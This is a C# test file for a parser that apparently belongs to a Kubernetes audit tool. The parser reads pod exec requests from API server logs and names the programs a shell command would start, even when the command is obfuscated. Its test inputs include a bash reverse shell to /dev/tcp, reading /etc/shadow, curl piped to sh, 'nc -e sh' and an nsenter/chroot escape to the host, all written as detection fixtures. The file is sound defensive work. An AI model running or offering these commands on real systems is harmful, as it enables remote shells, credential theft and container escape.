using System.Text;
using System.Text.Json.Nodes;
using ClusterTrail.Rules.Commands;

namespace ClusterTrail.Rules.Tests.Commands;

public sealed class ExecDocumentTests
{
    [Theory]
    [InlineData("/api/v1/namespaces/a/pods/b/exec?command=ls&command=-l&container=web&stdout=true", "ls|-l")]
    // As the API server writes it into its log.
    [InlineData("/exec?command=ls\\u0026command=-l", "ls|-l")]
    [InlineData("/exec?command=echo&command=a+b%20c%26d", "echo|a b c&d")]
    [InlineData("/exec?c%6Fmmand=ls&command=", "ls|")]
    [InlineData("/exec?command=%C3%A4%ff", "ä\ufffd")]
    // What Go's net/url leaves out, the API server does not run.
    [InlineData("/exec?command=ls&command=%zz&command=%4&command=a;b", "ls")]
    [InlineData("/exec?commands=ls&Command=ls&stdin=command", "")]
    [InlineData("/exec", "")]
    [InlineData("", "")]
    public void TheArgumentsAreThoseThatTheAPIServerReads(string uri, string expected) =>
        Assert.Equal(expected, string.Join('|', Read(uri)["arguments"]!.AsArray()));

    [Theory]
    // A quoted text is no program.
    [InlineData("echo~curl http://x", "echo")]
    [InlineData("sh~-c~echo \"curl http://x\"", "sh echo")]
    [InlineData("sh~-c~echo 'a; curl x' # ; wget y", "sh echo")]
    [InlineData("sh~-c~cat <<EOF\ncurl x\nEOF\nls", "sh cat ls")]
    [InlineData("sh~-c~echo $HOME ${x:-curl}", "sh echo")]
    [InlineData("command~-v~curl", "command")]
    // What a shell would start.
    [InlineData("/usr/bin/curl~-s~http://x", "curl")]
    [InlineData("sh~-c~curl x | sh", "sh curl sh")]
    [InlineData("sh~-ec~true && curl x; wget y &\nls", "sh true curl wget ls")]
    [InlineData("bash~-l~-c~(cd /tmp; curl x)", "bash cd curl")]
    [InlineData("bash~-c~if curl x; then { wget y; }; fi; while ! nc z; do sleep 1; done", "bash curl wget nc sleep")]
    [InlineData("sh~-c~for i in curl wget; do ls; done", "sh ls")]
    [InlineData("sh~-c~A=1 B=$(curl x) env", "sh curl env")]
    [InlineData("sh~-c~echo \"$(curl x)\" `wget y`", "sh curl wget echo")]
    [InlineData("sh~-c~cu'r'l x; \\wget y; \"n\"c", "sh curl wget nc")]
    [InlineData("sh~-c~$'\\x63url' x", "sh curl")]
    [InlineData("sh~-c~cat <(curl x) >(tee y)", "sh curl tee cat")]
    [InlineData("sh~-c~eval \"curl x\"", "sh eval curl")]
    [InlineData("sh~-c~sh <<EOF\ncurl x\nEOF", "sh sh curl")]
    [InlineData("sh~-c~bash <<< 'curl x'", "sh bash curl")]
    [InlineData("sh~-c~bash -c \"sh -c 'curl x'\"", "sh bash sh curl")]
    [InlineData("env~A=1~-u~B~timeout~-s~KILL~5~nice~-n~5~curl~x", "env timeout nice curl")]
    [InlineData("sudo~-u~root~--~curl~x", "sudo curl")]
    [InlineData("find~/~-name~x~-exec~curl~{}~;", "find curl")]
    [InlineData("xargs~-n~1~wget", "xargs wget")]
    [InlineData("busybox~sh~-c~nc -e sh x 1", "busybox sh nc")]
    [InlineData("nsenter~-t~1~-m~-p~--~chroot~/host~bash", "nsenter chroot bash")]
    [InlineData("su~-c~curl x~web", "su curl")]
    // Nothing of it is run.
    [InlineData("sh~script.sh", "sh")]
    [InlineData("sh~-c", "sh")]
    public void AProgramIsNamedWhereAShellStartsItAndNowhereElse(string command, string programs) =>
        Assert.Equal(programs, string.Join(' ', Commands(command).Select(one => (string)one!["program"]!)));

    [Theory]
    [InlineData("bash -i >& /dev/tcp/192.0.2.1/443 0>&1", "bash", "/dev/tcp/192.0.2.1/443 1")]
    [InlineData("exec 5<>/dev/tcp/192.0.2.1/443", "exec", "/dev/tcp/192.0.2.1/443")]
    [InlineData("cat 2>/dev/null </etc/shadow", "cat", "/dev/null /etc/shadow")]
    [InlineData(">/dev/tcp/192.0.2.1/1", "", "/dev/tcp/192.0.2.1/1")]
    [InlineData("ls &>> log", "ls", "log")]
    [InlineData("echo '>/dev/tcp/a/1'", "echo", "")]
    public void TheFilesOfRedirectionsAreThere(string script, string program, string files)
    {
        var command = Assert.Single(Commands($"sh~-c~{script}").Skip(1))!;

        Assert.Equal((program, files), ((string)command["program"]!, string.Join(' ', command["files"]!.AsArray())));
    }

    [Theory]
    [InlineData("curl x | sh", "curl")]
    [InlineData("curl x | sudo bash", "curl curl")]
    [InlineData("(curl x) | sh", "curl")]
    [InlineData("curl x || sh", "")]
    [InlineData("curl x; sh", "")]
    [InlineData("echo 'a | sh'", "")]
    public void WhatAProgramReadsFromIsThere(string script, string inputs) =>
        Assert.Equal(inputs, string.Join(' ', Commands($"sh~-c~{script}").Select(one => (string?)one!["input"]).OfType<string>()));

    [Fact]
    public void NestingHasALimitThatIsReported()
    {
        Assert.False((bool)Read(Uri("sh~-c~" + string.Concat(Enumerable.Repeat("$(", 9)) + "curl"))["isTooDeep"]!);
        Assert.True((bool)Read(Uri("sh~-c~" + string.Concat(Enumerable.Repeat("$(", 2000)) + "curl"))["isTooDeep"]!);
    }

    [Theory]
    [InlineData(1)]
    [InlineData(2)]
    public void AnyTextIsTakenApart(int seed)
    {
        var random = new Random(seed);
        for (var round = 0; round < 5000; round++)
        {
            var script = new string(random.GetItems("abc $(){}|&;<>'\"\\`#\n=-x0é".ToCharArray(), random.Next(40)));

            Assert.NotNull(Read(Uri($"sh~-c~{script}"))["commands"]);
        }
    }

    // Whoever may run commands in any pod may send such a URI; an agent that it ends reads it again.
    [Theory]
    [InlineData("eval")]
    [InlineData("$(")]
    public void LongScriptsInScriptsTakeNoMoreThanTheirShareOfMemory(string one)
    {
        var nested = string.Concat(Enumerable.Repeat(one + " ", 30)) + new string('x', 900_000);
        var uri = Encoding.UTF8.GetBytes("/exec?command=sh&command=-c&command=" + nested.Replace(' ', '+'));
        var before = GC.GetAllocatedBytesForCurrentThread();

        var document = ExecDocument.Of(uri);

        Assert.InRange(GC.GetAllocatedBytesForCurrentThread() - before, 0, 150_000_000);
        Assert.True((bool)JsonNode.Parse(document.Json)!["isTooDeep"]!);
    }

    [Fact]
    public void ItAllocatesNothingOnceItHasItsBuffers()
    {
        // One that is asked for again is not read again.
        var uris = new[] { "", "/tmp" }
            .Select(folder => Encoding.UTF8.GetBytes(Uri($"sh~-c~curl -s http://x | sh; cat $(ls {folder}) >/dev/null")))
            .ToArray();
        for (var round = 0; round < 100; round++)
            ExecDocument.Of(uris[round % 2]);

        var before = GC.GetAllocatedBytesForCurrentThread();
        for (var round = 0; round < 100; round++)
            ExecDocument.Of(uris[round % 2]);

        Assert.Equal(0, GC.GetAllocatedBytesForCurrentThread() - before);
    }

    static JsonArray Commands(string command) => Read(Uri(command))["commands"]!.AsArray();

    // Arguments stand between tildes.
    static string Uri(string command) => "/exec?stdin=true" + string.Concat(command.Split('~').Select(argument => $"&command={System.Uri.EscapeDataString(argument)}"));

    static JsonNode Read(string uri) => JsonNode.Parse(ExecDocument.Of(Encoding.UTF8.GetBytes(uri)).Json)!;
}
